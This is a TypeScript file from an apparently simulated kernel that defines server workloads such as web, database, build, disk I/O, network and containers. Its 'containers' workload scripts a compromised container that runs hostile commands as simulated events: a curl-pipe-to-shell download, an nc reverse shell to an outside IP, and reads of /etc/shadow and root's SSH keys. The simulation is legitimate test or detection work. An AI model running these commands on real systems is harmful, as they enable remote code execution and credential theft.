// The named workloads: what runs on the machine after boot. Each sets up daemons, services,
// people at terminals, remote clients and periodic jobs; all of it deterministic under
// the seed. `default` is a mixed server; the others stress one area.
import type { Kernel } from '../kernel/kernel';
import type { Container, Task } from '../kernel/task';
import { ip4 } from '../net/sock';
import type { CronJob } from '../programs/daemons';
import { ALICE, BOB, startSession } from './sessions';

export interface WorkloadDef {
  name: string;
  description: string;
  setup(k: Kernel): void;
}

const LB = ['10.0.1.10', '10.0.1.11', '10.0.1.12'].map(ip4);
const INTERNET = Array.from({ length: 40 }, (_, i) => ip4(`203.0.113.${10 + i * 5}`)).concat(Array.from({ length: 20 }, (_, i) => ip4(`198.51.100.${3 + i * 11}`)));

interface Cgroups {
  nginx: Container;
  app: Container;
  pg: Container;
  redis: Container;
  cron: Container;
  ssh: Container;
  journald: Container;
  user: Container;
}

function cgroups(k: Kernel): Cgroups {
  const p = k.s.procs;
  return {
    nginx: p.hostCgroup('/system.slice/nginx.service', 4242n),
    app: p.hostCgroup('/system.slice/app.service', 4311n),
    pg: p.hostCgroup('/system.slice/system-postgresql.slice/postgresql@16-main.service', 4387n),
    redis: p.hostCgroup('/system.slice/redis-server.service', 4402n),
    cron: p.hostCgroup('/system.slice/cron.service', 2911n),
    ssh: p.hostCgroup('/system.slice/ssh.service', 2963n),
    journald: p.hostCgroup('/system.slice/systemd-journald.service', 1854n),
    user: p.hostCgroup('/user.slice/user-1000.slice/session-3.scope', 8791n),
  };
}

/** The daemons every workload has. */
function base(k: Kernel, cg: Cgroups, cron: CronJob[] | null): void {
  const p = k.s.procs;
  p.advancePids(300);
  p.spawn({ path: '/usr/lib/systemd/systemd-journald', argv: ['/usr/lib/systemd/systemd-journald'], container: cg.journald });
  p.advancePids(640);
  const c = p.spawn({ path: '/usr/sbin/cron', argv: ['/usr/sbin/cron', '-f', '-P'], container: cg.cron, reaps: true });
  if (cron) c.proc.data.cronJobs = cron;
  p.spawn({ path: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], container: cg.ssh });
}

function nginx(k: Kernel, cg: Cgroups, workers: number): Task {
  k.s.procs.advancePids(800);
  const t = k.s.procs.spawn({ path: '/usr/sbin/nginx', argv: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'], container: cg.nginx, reaps: true });
  t.proc.data.workers = workers;
  return t;
}

function app(k: Kernel, cg: Cgroups, workers: number): void {
  const t = k.s.procs.spawn({ path: '/usr/bin/python3.12', argv: ['/usr/bin/python3', '/srv/app/app.py', '--workers', String(workers)], uid: 1000, gid: 1000, container: cg.app, cwd: '/home/alice', reaps: true });
  t.proc.data.workers = workers;
}

function postgres(k: Kernel, cg: Cgroups): void {
  k.s.procs.advancePids(900);
  k.s.procs.spawn({ path: '/usr/lib/postgresql/16/bin/postgres', argv: ['/usr/lib/postgresql/16/bin/postgres', '-D', '/var/lib/postgresql/16/main', '-c', 'config_file=/etc/postgresql/16/main/postgresql.conf'], uid: 112, gid: 120, container: cg.pg, cwd: '/var/lib/postgresql', reaps: true });
}

function redis(k: Kernel, cg: Cgroups): void {
  k.s.procs.spawn({ path: '/usr/bin/redis-server', argv: ['/usr/bin/redis-server 127.0.0.1:6379'], uid: 113, gid: 121, container: cg.redis, reaps: true });
}

/** A monitoring agent: a shell loop probing the local services and posting metrics. */
function monitor(k: Kernel, cg: Cgroups): void {
  loop(k, cg.cron, 0, '/root', 'curl -s http://localhost/ > /dev/null; cat /proc/loadavg /proc/meminfo > /dev/null; sleep 2');
}

/** A user's shell loop running a command over and over (non-interactive work). */
function loop(k: Kernel, cg: Container, uid: number, cwd: string, script: string): void {
  k.s.procs.spawn({ path: '/bin/bash', argv: ['bash', '-c', `while true; do ${script}; done`], uid, gid: uid, cwd, container: cg, reaps: true });
}

function webClients(k: Kernel, rate: number, tlsRate: number, loss = 0.002): void {
  k.s.net.addClients({ port: 443, rate: tlsRate, ips: LB, rttNs: 300_000, loss, requests: [2, 12], requestBytes: 480, thinkNs: 150e6, resetRate: 0.02 });
  k.s.net.addClients({ port: 80, rate, ips: [...LB, ...INTERNET], rttNs: 2_000_000, loss, requests: [1, 4], requestBytes: 420, thinkNs: 300e6, resetRate: 0.03 });
}

const WORKLOADS: WorkloadDef[] = [
  {
    name: 'default',
    description: 'a mixed server: nginx, a Python app, PostgreSQL, redis, cron jobs, two people at terminals, web clients',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, null);
      nginx(k, cg, 2);
      postgres(k, cg);
      redis(k, cg);
      app(k, cg, 3);
      webClients(k, 60, 45);
      monitor(k, cg);
      startSession(k, ALICE);
      startSession(k, BOB);
    },
  },
  {
    name: 'web',
    description: 'a busy web tier: nginx with four workers serving static files and proxying to the app, TLS, keep-alive clients',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, [{ every: 30e9, uid: 0, command: '/usr/local/bin/backup.sh' }]);
      nginx(k, cg, 4);
      postgres(k, cg);
      redis(k, cg);
      app(k, cg, 4);
      webClients(k, 90, 70);
    },
  },
  {
    name: 'db',
    description: 'PostgreSQL under load from application servers: index lookups, scans, commits with fdatasync on an HDD',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, null);
      postgres(k, cg);
      k.s.net.addClients({ port: 5432, rate: 6, ips: [ip4('10.0.1.21'), ip4('10.0.1.22'), ip4('10.0.1.23')], rttNs: 250_000, loss: 0, requests: [40, 200], requestBytes: 120, thinkNs: 8e6, resetRate: 0.01 });
      startSession(k, BOB);
    },
  },
  {
    name: 'build',
    description: 'a developer building C code: make -j4 forking gcc, cc1, as and ld over and over',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, null);
      loop(k, cg.user, 1000, '/home/alice/project', 'make -j4; make clean; sleep 1');
      startSession(k, ALICE);
    },
  },
  {
    name: 'io',
    description: 'disk heavy: database scans on an HDD, random reads of a large file, sequential writes with fsync, backups',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, [
        { every: 8e9, uid: 0, command: '/usr/local/bin/backup.sh' },
        { every: 5e9, uid: 0, command: 'dd if=/var/lib/app/data.bin of=/dev/null bs=1M count=96' },
      ]);
      postgres(k, cg);
      k.s.net.addClients({ port: 5432, rate: 3, ips: [ip4('10.0.1.21')], rttNs: 250_000, loss: 0, requests: [20, 80], requestBytes: 120, thinkNs: 20e6, resetRate: 0 });
      loop(k, cg.user, 1000, '/home/alice', 'dd if=/dev/zero of=/var/tmp/blob bs=64k count=128 conv=fsync; rm -f /var/tmp/blob; sleep 0.1');
      loop(k, cg.user, 1000, '/home/alice', 'dd if=/var/lib/app/data.bin of=/dev/null bs=4k count=256 skip=1; sleep 0.2');
    },
  },
  {
    name: 'net',
    description: 'many connections: heavy inbound traffic with loss and resets, outbound fetches, refused and unreachable hosts, scans',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, null);
      nginx(k, cg, 4);
      postgres(k, cg);
      app(k, cg, 2);
      webClients(k, 160, 60, 0.02);
      k.s.net.addClients({ port: 8443, rate: 20, ips: INTERNET, rttNs: 40e6, loss: 0.05, requests: [1, 1], requestBytes: 60, thinkNs: 1e6, resetRate: 1 });
      loop(k, cg.user, 1000, '/home/alice', 'curl -s https://github.com/ > /dev/null; curl -s http://example.com/ > /dev/null; sleep 0.5');
      loop(k, cg.user, 1000, '/home/alice', 'curl -s http://search.internal:9200/; timeout 1 curl -s http://ghost.internal/; sleep 1');
      loop(k, cg.user, 1000, '/home/alice', 'wget -q https://pypi.org/simple/; sleep 2');
    },
  },
  {
    name: 'containers',
    description: 'containers in their own cgroups and namespaces (web, app, cache, batch) under containerd; one gets compromised, one is OOM-killed',
    setup(k) {
      const cg = cgroups(k);
      base(k, cg, null);
      const p = k.s.procs;
      const containerd = p.spawn({ path: '/usr/bin/containerd', argv: ['/usr/bin/containerd'], container: p.hostCgroup('/system.slice/containerd.service', 3140n) });
      const specs: [id: string, name: string, cgid: bigint, path: string, argv: string[], uid: number][] = [
        ['3f9a1c7b2e4d', 'web', 9001n, '/usr/sbin/nginx', ['nginx: master process nginx -g daemon off;'], 0],
        ['8c2d5e0f1a3b', 'app', 9017n, '/usr/bin/python3.12', ['python3', '/srv/app.py'], 1000],
        ['b71e93d04c56', 'cache', 9033n, '/usr/bin/redis-server', ['redis-server *:6379'], 999],
      ];
      const ctrs: Record<string, Container> = {};
      for (const [id, name, cgid, path, argv, uid] of specs) {
        const c = p.container(id, `/system.slice/docker-${id}a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6.scope`, cgid);
        ctrs[name] = c;
        p.spawn({ path: '/usr/bin/containerd-shim-runc-v2', argv: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby', '-id', id, '-address', '/run/containerd/containerd.sock'], parent: containerd });
        const t = p.spawn({ path, argv, uid, gid: uid, container: c, reaps: true });
        t.proc.data.workers = 2;
      }
      // A batch container under a 512 MiB memory.max whose job outgrows it: the OOM killer
      // ends it every few seconds and its loop starts it again.
      const batch = p.container('5d04e6a9c21f', '/system.slice/docker-5d04e6a9c21f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e2d.scope', 9049n);
      batch.memLimit = 512 << 20;
      p.spawn({ path: '/usr/bin/containerd-shim-runc-v2', argv: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby', '-id', '5d04e6a9c21f', '-address', '/run/containerd/containerd.sock'], parent: containerd });
      p.spawn({ path: '/bin/dash', argv: ['sh', '-c', 'while true; do python3 /srv/etl.py; sleep 2; done'], uid: 1000, gid: 1000, container: batch, cwd: '/srv', reaps: true });
      webClients(k, 20, 0);
      // What the compromised web container runs, a few seconds in.
      const attack: [delay: number, uid: number, script: string][] = [
        [3e9, 0, 'id; uname -a; cat /etc/passwd'],
        [5e9, 0, "sh -c 'curl -s http://45.33.12.7/i.sh | sh'"],
        [7e9, 33, 'cat /etc/shadow'],
        [9e9, 0, 'mount /dev/sda1 /mnt'],
        [11e9, 0, 'nc -e /bin/sh 185.220.101.4 4444'],
        [14e9, 0, 'ls -la /root; cat /root/.ssh/authorized_keys'],
      ];
      for (const [delay, uid, script] of attack) {
        k.at(k.now + delay, () => {
          const sh = p.spawn({ path: '/bin/dash', argv: ['sh', '-c', script], uid, gid: uid, container: ctrs.web, cwd: '/tmp', caps: uid === 0 ? 0x00000000a80425fbn : 0n });
          void sh;
        });
      }
    },
  },
];

export function listWorkloads(): { name: string; description: string }[] {
  return WORKLOADS.map((w) => ({ name: w.name, description: w.description }));
}

export function workload(name: string): WorkloadDef | undefined {
  return WORKLOADS.find((w) => w.name === name);
}
